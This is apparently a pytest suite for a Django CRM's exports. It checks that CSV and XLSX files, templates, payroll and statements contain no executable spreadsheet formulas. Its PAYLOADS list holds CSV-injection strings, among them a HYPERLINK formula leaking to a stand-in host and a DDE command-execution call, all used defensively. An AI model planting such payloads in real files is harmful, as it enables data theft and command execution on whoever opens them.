"""SPEC §11.7: 0 cells that a spreadsheet would run as a formula, in every export.

Every export the app writes, through every way it can be fetched:

- the record exports (``imports.exporting``) of every kind — members, targets, accounts,
  contacts, leads, opportunities, orders, activities — as CSV and XLSX, through the
  service, the CLI (``saleshelm export``), the Exports page and the API;
- the import templates (``/imports/templates/<kind>.csv``);
- a commission run's payroll file (API, CSV and XLSX);
- the statements as CSV (``saleshelm commissions statements --format csv``).

The records hold OWASP's CSV-injection payloads (``=HYPERLINK(…)``, ``+1+1``, ``-2+3``,
``@SUM(A1)``, a leading tab or carriage return, a DDE call) in *every* free-text field of
the models the exports read (enumerated from the models: a new text field is covered
without editing this file), written straight to the database as if typed through any
path. A file passes when no cell is a formula (XLSX ``data_type == "f"``), no text cell
starts with ``= + - @``, a tab or a CR — the hostile text is there, prefixed with a quote —
and negative numbers are still numbers (``-3`` in CSV, a numeric XLSX cell).
"""

from __future__ import annotations

import csv
import io
import re
from collections import Counter
from decimal import Decimal

import pytest
from django.core.management import call_command
from django.db import models
from openpyxl import load_workbook

from saleshelm.crm import models as crm
from saleshelm.imports.exporting import export_bytes
from saleshelm.imports.kinds import all_kinds
from saleshelm.people.models import MemberProfile, Team, Territory
from saleshelm.performance.services.targets import target_create
from saleshelm.tenancy.actors import SystemActor
from saleshelm.tenancy.models import User
from tests.conftest import api_client_for, web_client_for
from tests.imports.helpers import SAMPLES, run

pytestmark = pytest.mark.django_db

FORMULA_START = frozenset("=+-@\t\r")
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak","click")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]
NUMBER = re.compile(r"-\d+(\.\d+)?")  # a negative number is a number, not a formula

# The models the record exports read, and their text fields that are structure, not text a
# person typed (a tree path, a currency code, a period key, a metric key, a password).
HOSTILE_MODELS = [
    User,
    Team,
    Territory,
    MemberProfile,
    crm.Account,
    crm.Contact,
    crm.Lead,
    crm.Activity,
    crm.Pipeline,
    crm.Stage,
    crm.Opportunity,
    crm.Order,
    crm.OrderLine,
    crm.ProductCategory,
    crm.Product,
]
STRUCTURAL = {"password", "language", "path", "currency", "slug", "locale", "time_zone"}
KINDS = sorted(all_kinds())
SAMPLE_OWNERS = {
    "an.nguyen@example.com": "rep@acme.test",
    "binh.le@example.com": "peer@acme.test",
    "duc.hoang@example.com": "other@acme.test",
    "sarah.jones@example.com": "other@acme.test",
    "hoa.vo@example.com": "manager2@acme.test",
}


def text_fields(model) -> list[models.Field]:
    return [
        f
        for f in model._meta.concrete_fields
        if isinstance(f, models.CharField | models.TextField)
        and not f.choices
        and f.name not in STRUCTURAL
    ]


def _rows_of(model, org):
    if model is User:
        return User.objects.filter(memberships__organisation=org).distinct()
    if model is MemberProfile:
        return MemberProfile.objects.filter(membership__organisation=org)
    return model.objects.filter(organisation=org)


def poison(org) -> dict[str, int]:
    """Every free-text field of every row of ``HOSTILE_MODELS`` in ``org`` gets a payload
    (rotating, with the row's id so unique names stay unique). Returns fields per model."""
    covered: dict[str, int] = {}
    for model in HOSTILE_MODELS:
        fields = text_fields(model)
        covered[model._meta.label] = len(fields)
        for i, obj in enumerate(_rows_of(model, org).order_by("pk")):
            values = {}
            for j, field in enumerate(fields):
                suffix = f" {obj.pk}"
                payload = PAYLOADS[(i + j) % len(PAYLOADS)]
                limit = field.max_length or 10_000
                values[field.attname] = payload[: limit - len(suffix)] + suffix
            model.objects.filter(pk=obj.pk).update(**values)
    return covered


@pytest.fixture
def hostile(world):
    """Records of every kind in acme (the import samples, a return line, targets), then
    every free-text field of them overwritten with a formula payload."""
    for name in ("accounts", "contacts", "leads", "opportunities", "orders", "activities"):
        text = (SAMPLES / f"{name}.csv").read_text(encoding="utf-8")
        for old, new in SAMPLE_OWNERS.items():
            text = text.replace(old, new)
        text = "\n".join(
            line for line in text.splitlines() if "VND" not in line and "OPP-5002" not in line
        )
        result = run(world.admin, name, text + "\n")
        assert result.ok, (name, result.errors)
    result = run(
        world.admin,
        "orders",
        "external_id,line,order_date,owner_email,sku,quantity,unit_price\n"
        "SO-RET,1,2026-07-09,rep@acme.test,XS-400,-3,250.5\n",
    )
    assert result.ok, result.errors
    system = SystemActor(world.org)
    category = crm.ProductCategory.objects.filter(organisation=world.org).first()
    target_create(actor=system, metric="revenue", period="2026-07", value="1000", member=world.rep)
    target_create(
        actor=system,
        metric="revenue",
        period="2026-Q3",
        value="9000",
        team=world.rep.profile.team,
        product_category=category,
    )
    target_create(
        actor=system,
        metric="revenue",
        period="2026",
        value="50000",
        territory=world.rep.profile.territory,
    )
    return poison(world.org)


# --- reading the files ------------------------------------------------------------------------


def csv_cells(raw: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def check_csv(raw: bytes) -> Counter:
    """Fails on a cell a spreadsheet would run; counts the neutralised ones by first char."""
    rows = csv_cells(raw)
    assert rows, "an empty file"
    bad = [
        c for row in rows for c in row if c and c[0] in FORMULA_START and not NUMBER.fullmatch(c)
    ]
    assert not bad, bad[:5]
    return Counter(c[1] for row in rows for c in row if len(c) > 1 and c[0] == "'")


def check_xlsx(raw: bytes) -> Counter:
    sheet = load_workbook(io.BytesIO(raw)).worksheets[0]
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert cells, "an empty sheet"
    formulas = [c.coordinate for c in cells if c.data_type == "f"]
    assert not formulas, formulas[:5]
    texts = [c.value for c in cells if isinstance(c.value, str)]
    bad = [t for t in texts if t and t[0] in FORMULA_START]
    assert not bad, bad[:5]
    return Counter(t[1] for t in texts if len(t) > 1 and t[0] == "'")


CHECK = {"csv": check_csv, "xlsx": check_xlsx}


def _body(response) -> bytes:
    assert response.status_code == 200, response.content[:300]
    if getattr(response, "streaming", False):
        return b"".join(response.streaming_content)
    return response.content


def fetch(path: str, world, kind: str, fmt: str, tmp_path) -> bytes:
    if path == "service":
        return export_bytes(actor=world.admin, kind=kind, format=fmt)
    if path == "cli":
        out = tmp_path / f"{kind}.{fmt}"
        call_command("export_data", kind, "--org", world.org.slug, "--format", fmt, "-o", str(out))
        return out.read_bytes()
    if path == "page":
        client = web_client_for(world.admin)
        return _body(client.get("/exports/", {"kind": kind, "format": fmt}))
    client = api_client_for(world.admin)
    return _body(client.get("/api/v1/imports/export", {"kind": kind, "format": fmt}))


# --- the record exports -----------------------------------------------------------------------


def test_every_kind_has_records_and_every_model_text_field_is_poisoned(world, hostile):
    assert set(KINDS) == {
        "members",
        "targets",
        "accounts",
        "contacts",
        "leads",
        "opportunities",
        "orders",
        "activities",
    }
    assert sum(hostile.values()) >= 30, hostile
    names = crm.Account.objects.filter(organisation=world.org).values_list("name", flat=True)
    assert names and all(n[0] in FORMULA_START for n in names)


@pytest.mark.parametrize("path", ["service", "cli", "page", "api"])
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_no_export_of_any_kind_holds_a_formula_cell(world, hostile, tmp_path, path, fmt):
    neutralised: Counter = Counter()
    per_kind = {}
    for kind in KINDS:
        raw = fetch(path, world, kind, fmt, tmp_path)
        found = CHECK[fmt](raw)
        per_kind[kind] = sum(found.values())
        neutralised += found
    # The hostile text reached every kind's file (neutralised), so nothing passed vacuously.
    assert all(per_kind.values()), per_kind
    # Every leading character of the payloads was met and quoted.
    assert set(neutralised) >= {"=", "+", "-", "@", "\t"}, neutralised
    if fmt == "csv":
        assert "\r" in neutralised  # XLSX (XML) stores a CR as a line feed


def test_negative_numbers_stay_numbers(world, hostile):
    raw = export_bytes(actor=world.admin, kind="orders", format="csv")
    rows = csv_cells(raw)
    header = rows[0]
    returned = [
        r[header.index("unit_price")] for r in rows[1:] if r[header.index("quantity")] == "-3"
    ]
    assert "250.5" in returned
    sheet = load_workbook(
        io.BytesIO(export_bytes(actor=world.admin, kind="orders", format="xlsx"))
    ).worksheets[0]
    column = header.index("quantity") + 1
    quantities = [row[column - 1] for row in sheet.iter_rows(min_row=2)]
    negative = [c for c in quantities if c.value == -3]
    assert negative and negative[0].data_type == "n"


@pytest.mark.parametrize("kind", KINDS)
def test_the_import_templates_hold_no_formula(world, kind):
    response = web_client_for(world.admin).get(f"/imports/templates/{kind}.csv")
    check_csv(_body(response))


# --- commissions: payroll and statements ------------------------------------------------------


@pytest.fixture
def hostile_run(world):
    from saleshelm.incentives.models import Plan
    from tests.incentives.factories import import_plan, order
    from tests.incentives.factories import run as commission_run

    for i, member in enumerate((world.rep, world.peer)):
        member.user.full_name = PAYLOADS[i]
        member.user.save(update_fields=["full_name"])
    import_plan(world.org, [world.rep, world.peer], clawback_days=90)
    Plan.objects.filter(organisation=world.org).update(name="@SUM(A1) plan")
    deal = order(world.peer, "2026-06-05", {"amount": 1000})
    order(world.rep, "2026-07-05", {"amount": 1000})
    commission_run(world.org, "2026-06")
    line = deal.lines.get()
    line.status, line.status_date = "cancelled", "2026-07-02"
    line.save()
    the_run = commission_run(world.org, "2026-07")
    from saleshelm.incentives.models import PayoutLine

    PayoutLine.objects.filter(statement__run=the_run).update(component="-2+3 component")
    return the_run


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_payroll_file_holds_no_formula_and_keeps_negative_totals_numeric(
    world, hostile_run, fmt
):
    finance = api_client_for(world.finance)
    raw = _body(finance.get(f"/api/v1/commission-runs/{hostile_run.pk}/payroll", {"format": fmt}))
    found = CHECK[fmt](raw)
    assert found["="] and found["+"] and found["@"], found  # names and the plan's name, quoted
    if fmt == "csv":
        rows = csv_cells(raw)
        totals = [r[rows[0].index("total")] for r in rows[1:]]
        assert "-40.00" in totals
    else:
        sheet = load_workbook(io.BytesIO(raw)).worksheets[0]
        numbers = [c for row in sheet.iter_rows(min_row=2) for c in row if c.data_type == "n"]
        assert any(c.value is not None and Decimal(str(c.value)) == -40 for c in numbers)


def test_the_statements_csv_holds_no_formula(world, hostile_run):
    out = io.StringIO()
    call_command(
        "commissions_statements",
        "--org",
        world.org.slug,
        "--period",
        "2026-07",
        "--format",
        "csv",
        stdout=out,
        stderr=io.StringIO(),
    )
    raw = out.getvalue().encode("utf-8")
    found = check_csv(raw)
    assert found["="] and found["-"] and found["@"], found  # names, components, the plan
    rows = csv_cells(raw)
    assert "-40.00" in [r[rows[0].index("amount")] for r in rows[1:]]
